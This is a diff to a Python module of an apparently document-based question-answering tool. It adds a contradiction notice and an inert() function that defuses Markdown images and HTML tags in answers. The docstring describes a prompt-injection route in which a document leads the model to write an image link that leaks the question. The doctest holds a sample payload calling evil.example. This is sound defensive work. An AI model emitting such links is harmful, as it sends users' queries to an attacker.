@@ -20,6 +20,8 @@ ALSO, NEAREST = "\n\nOther passages that may answer:\n", "\n\nNearest:\n"
 
 WHY = "\nWhy: "
 
+CONTRADICT = "\n\nThese sources contradict each other: "
+
 UNDERSTOOD = "\n\nUnderstood as: "
 
 UNREAD = "\n\nNot read: "
@@ -30,19 +32,33 @@ SEARCHED = ". Only the documents of the collection are searched; add files to it
 MOST_UNREAD = 5
 """Names shown; others are counted."""
 
+_LOADS = re.compile(r"!(?=\[)|<(?=[a-zA-Z][\w-]*(?:[\s/]|$))")
 _MARKER = re.compile(r"\[(\d{1,3})\]")
 _QUOTED = re.compile(r"“[^“”]*”")
 _QUOTED_OR_ROW = re.compile(r"“[^“”]*”|^\|.*$", re.MULTILINE)
 """Text of the documents in an answer that no model wrote."""
 
 
+def inert(text: str) -> str:
+    """The text, as long as before, without images and tags of HTML, whose addresses a client would load at once.
+
+    A document may have a model write one that holds the question.
+
+    >>> inert("![x](http://evil.example/?q=leave) <img src=x> List<String>")
+    '！[x](http://evil.example/?q=leave) ‹img src=x> List<String>'
+    """
+    return _LOADS.sub(lambda found: "！" if found[0] == "!" else "‹", text)
+
+
 def tail(answer: Answer, *, listed: bool, linked: bool, unread: Sequence[str] = ()) -> str:
-    """The text after the answer: the reason of a refusal or a doubt, the question, the sources, further passages.
+    """The text after the answer: why it is none or in doubt, what contradicts it, the question, the sources, others.
 
     `unread` are the files that a client sent along. `listed` adds the understood question and the sources; `linked`
     adds their addresses, which are of no use if only this machine reaches the server.
     """
     text = in_full(answer.text, answer.reason).removeprefix(answer.text)
+    if answer.conflicts and answer.answered_by == "model":  # without a model the answer itself tells it
+        text += CONTRADICT + ", ".join(f"[{one}] and [{other}]" for one, other in answer.conflicts) + "."
     if listed and answer.standalone:
         text += UNDERSTOOD + answer.standalone
     if unread:
@@ -54,7 +70,7 @@ def tail(answer: Answer, *, listed: bool, linked: bool, unread: Sequence[str] = 
         text += (NEAREST if answer.abstained else ALSO) + "\n".join(
             _other(one.citation, linked) for one in answer.alternatives
         )
-    return text
+    return inert(text)
 
 
 def _other(citation: Citation, linked: bool) -> str:
@@ -63,7 +79,7 @@ def _other(citation: Citation, linked: bool) -> str:
 
 def without_tail(text: str) -> str:
     """An earlier answer that a client sends back, without its tail."""
-    return re.split(f"{SOURCES}|{WHY}|{UNREAD}|{UNDERSTOOD}|{ALSO}|{NEAREST}", text, maxsplit=1)[0]
+    return re.split(f"{SOURCES}|{WHY}|{UNREAD}|{CONTRADICT}|{UNDERSTOOD}|{ALSO}|{NEAREST}", text, maxsplit=1)[0]
 
 
 class UrlCitation(BaseModel):
